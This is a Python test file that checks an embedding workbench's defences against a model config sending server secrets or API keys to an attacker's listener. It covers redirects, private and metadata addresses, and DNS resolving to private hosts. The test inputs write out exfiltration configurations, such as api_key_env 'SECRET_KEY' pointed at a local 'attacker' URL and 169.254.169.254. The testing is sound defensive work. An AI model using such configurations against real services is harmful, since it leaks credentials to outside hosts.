"""Secrets and requests sent through a model, tried as a curator would (issue 13, item 2).

The attack: an ``openai`` model whose ``base_url`` points at a listener of the attacker's (here a
thread on 127.0.0.1) and whose ``api_key_env`` names a server secret, so that the worker sends it
as a bearer token. The listener must receive nothing: not at registration, not when a run of a
row written some other way reaches the worker, not through a redirect from an allowed host, not
when an allowed name resolves to a private address at the moment the worker connects.
"""

from __future__ import annotations

import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

from probing.actions import create_probe_run, run_inline
from probing.embedding.network import ApiRules, RefusedRequest, http_client
from probing.models import EmbeddingModel, ProbeRun
from tests.security.model_attacks import as_curator, register, register_and_probe, small_release

pytestmark = pytest.mark.django_db

SECRET = "the-server-secret-key-that-must-stay-home"


class Listener(ThreadingHTTPServer):
    """Records every request; answers with a redirect to ``redirect_to`` when set, else 404."""

    def __init__(self, host: str = "127.0.0.1", redirect_to: str = "") -> None:
        super().__init__((host, 0), Recorder)
        self.requests: list[dict] = []
        self.redirect_to = redirect_to

    @property
    def url(self) -> str:
        return f"http://{self.server_address[0]}:{self.server_address[1]}/v1"


class Recorder(BaseHTTPRequestHandler):
    def do_POST(self) -> None:  # noqa: N802 (http.server's naming)
        body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
        self.server.requests.append({"path": self.path, "headers": dict(self.headers), "body": body})
        if self.server.redirect_to:
            self.send_response(307)
            self.send_header("Location", self.server.redirect_to + self.path.removeprefix("/v1"))
        else:
            self.send_response(404)
        self.send_header("Content-Length", "0")
        self.end_headers()

    do_GET = do_POST

    def log_message(self, *args) -> None:
        pass


@pytest.fixture
def listen():
    servers = []

    def start(**kwargs) -> Listener:
        server = Listener(**kwargs)
        threading.Thread(target=server.serve_forever, daemon=True).start()
        servers.append(server)
        return server

    yield start
    for server in servers:
        server.shutdown()
        server.server_close()


@pytest.fixture
def secret(monkeypatch) -> str:
    monkeypatch.setenv("SECRET_KEY", SECRET)
    monkeypatch.setenv("OPENAI_API_KEY", "sk-the-organisations-paid-key")
    return SECRET


@pytest.fixture
def curator_client(client):
    return as_curator(client)


@pytest.fixture
def release():
    return small_release()


def carrying(server: Listener, value: str) -> list[dict]:
    return [r for r in server.requests if value in str(r["headers"]) or value.encode() in r["body"]]


def model(options: dict, name: str = "exfil") -> dict:
    return {"name": name, "kind": "openai", "source": "text-embedding-3-small", "options": options}


def attack(client, release, options: dict) -> tuple:
    return register_and_probe(client, release, model(options))


def test_a_model_cannot_send_a_server_secret_to_a_host_of_the_curators_choice(curator_client, listen, secret, release):
    attacker = listen()
    options = {"base_url": attacker.url, "api_key_env": "SECRET_KEY", "max_retries": 0}

    response, run = attack(curator_client, release, options)

    assert carrying(attacker, secret) == [] and attacker.requests == []
    assert response.status_code == 400 and "SECRET_KEY" in response.json()["detail"]
    assert run.status == ProbeRun.Status.FAILED and "api_key_env 'SECRET_KEY'" in run.error


def test_the_allowed_key_goes_to_no_loopback_private_or_link_local_address(curator_client, listen, secret, release):
    attacker = listen()

    response, run = attack(curator_client, release, {"base_url": attacker.url, "max_retries": 0})

    assert attacker.requests == []
    assert response.status_code == 400 and "WORKBENCH_MODEL_API_HOSTS" in response.json()["detail"]
    assert run.status == ProbeRun.Status.FAILED and "not one the administrator allows" in run.error
    for base_url in ("http://169.254.169.254/v1", "https://10.1.2.3/v1", "https://[::1]:8443/v1"):
        response = register(curator_client, model({"base_url": base_url}, name="again"))
        assert response.status_code == 400 and "WORKBENCH_MODEL_API_HOSTS" in response.json()["detail"], base_url


def test_an_allowed_host_cannot_redirect_the_key_elsewhere(listen, secret, release, settings):
    elsewhere = listen(host="127.0.0.2")
    allowed = listen(redirect_to=elsewhere.url)
    settings.WORKBENCH_MODEL_API_HOSTS = ["api.openai.com", "127.0.0.1"]  # an administrator's local server
    model = EmbeddingModel.objects.create(
        name="redirected", kind="openai", source="text-embedding-3-small", options={"base_url": allowed.url}
    )

    run = run_inline(create_probe_run(release, model))

    # The redirect is an answer (an error status), not an instruction: the run fails saying so.
    assert elsewhere.requests == []
    assert run.status == ProbeRun.Status.FAILED and "307" in run.error and len(allowed.requests) == 1


def test_an_allowed_name_that_resolves_to_a_private_address_is_refused(listen):
    listener = listen()
    port = listener.server_address[1]
    rules = ApiRules(hosts=frozenset({"api.openai.com"}))
    # At registration: the name is listed, but its address is not public.
    with pytest.raises(RefusedRequest, match="resolves to 10.0.0.7"):
        rules.check_url("https://api.openai.com/v1", resolver=lambda host, port: ["10.0.0.7"])
    # When the worker connects (a DNS answer that changed since the check): no connection is made.
    client = http_client(rules, timeout=5, resolver=lambda host, port: ["127.0.0.1"])
    with pytest.raises(RefusedRequest, match="resolves to 127.0.0.1"):
        client.post(f"http://api.openai.com:{port}/v1/embeddings", headers={"Authorization": f"Bearer {SECRET}"})
    assert listener.requests == []


def test_an_administrator_may_list_a_local_server(listen, secret, settings):
    import openai

    server = listen()
    settings.WORKBENCH_MODEL_API_HOSTS = ["api.openai.com", "127.0.0.0/8"]
    options = {"base_url": server.url, "max_retries": 0}
    model = EmbeddingModel(name="local", kind="openai", source="text-embedding-3-small", options=options)
    model.full_clean()
    with pytest.raises(openai.NotFoundError):  # the listener answers 404: that it was reached is what counts
        model.load_backend()._request(["an eager beaver"])
    assert [r["path"] for r in server.requests] == ["/v1/embeddings"]
